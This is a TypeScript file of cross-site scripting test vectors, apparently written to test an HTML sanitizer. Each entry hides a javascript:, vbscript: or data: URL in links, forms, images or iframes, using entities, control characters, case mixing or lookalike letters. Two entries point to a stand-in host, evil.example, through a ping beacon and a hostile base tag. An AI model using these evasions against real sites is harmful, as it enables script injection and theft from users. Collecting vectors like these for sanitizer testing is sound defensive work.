import type { Vectors } from "./vectors.ts";

/** Addresses that are scripts or documents, with ways to hide the scheme. */
export const addresses: Vectors = {
  "a script": "<a href=javascript:RUN>x</a>",
  "a script in mixed case": "<a href=jAvAsCrIpT:RUN>x</a>",
  "a script behind spaces": '<a href="   javascript:RUN">x</a>',
  "a script behind a control character": '<a href="&#1;javascript:RUN">x</a>',
  "a script behind all control characters": '<a href="&#2;&#3;&#8;&#14;&#31;javascript:RUN">x</a>',
  "a script with a line break in its scheme": '<a href="java\nscript:RUN">x</a>',
  "a script with a tab by name in its scheme": '<a href="java&Tab;script:RUN">x</a>',
  "a script with a line break by name and a colon by name": '<a href="java&NewLine;script&colon;RUN">x</a>',
  "a script with a carriage return by number": '<a href="javascript&#13;:RUN">x</a>',
  "a script in decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">x</a>',
  "a script in entities without semicolons":
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">x</a>',
  "a script in entities with zeros": '<a href="&#0000000106avascript:RUN">x</a>',
  "a script that says it is a comment": '<a href="javascript://example.com/%0aRUN">x</a>',
  "a script that says it is an address": "<a href=\"javascript:'https://example.com/';RUN\">x</a>",
  "a script behind a host": '<a href="javascript:/*https://*/RUN">x</a>',
  "a script in a template string": '<a href="javascript:`${RUN}`">x</a>',
  "a script behind a blank that only some know": '<a href="\u3000javascript:RUN">x</a><a href=javascript:RUN>x</a>',
  "a script behind a byte order mark": '<a href="\uFEFFjavascript:RUN">x</a><a href="&#32;javascript:RUN">x</a>',
  "a script with letters that only look so": '<a href="javaſcript:RUN">x</a><a href="\tjavascript:RUN">x</a>',
  "a script for a new tab": "<a target=_self href=javascript:RUN>x</a>",
  "a script with a name to save as": "<a href=javascript:RUN ping=//evil.example/ID>x</a>",
  "a script on an area of a map": "<map name=m><area shape=default href=javascript:RUN></map><img usemap=#m src=x>",
  "a script as an image, a citation and a background":
    "<img src=javascript:RUN><q cite=javascript:RUN>x</q><table background=javascript:RUN></table><a href=javascript:RUN>x</a>",
  "a script as a form's action": "<form action=javascript:RUN><button>x</button></form>",
  "a script as a button's action": "<form><button formaction=javascript:RUN>x</button></form>",
  "a script as an image button's action": "<form><input type=image formaction=javascript:RUN src=x></form>",
  "a script of Visual Basic beside one":
    "<a href=vbscript:RUN>x</a><a href=livescript:RUN>x</a><a href='javascript:RUN'>x</a>",
  "a document of data":
    '<a href="data:text/html,<script>RUN</script>">x</a><iframe src="data:text/html;base64,BASE64RUN"></iframe>',
  "a drawing of data":
    '<a href=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\'>x</a><a href=javascript:RUN>x</a>',
  "a relative address under a foreign base": "<base href='//evil.example/ID/'><a href=x>x</a>",
  "a view of the source":
    "<a href=view-source:javascript:RUN>x</a><a href=blob:null/x>x</a><a href=filesystem:x>x</a><a href=javascript:RUN>x</a>",
};
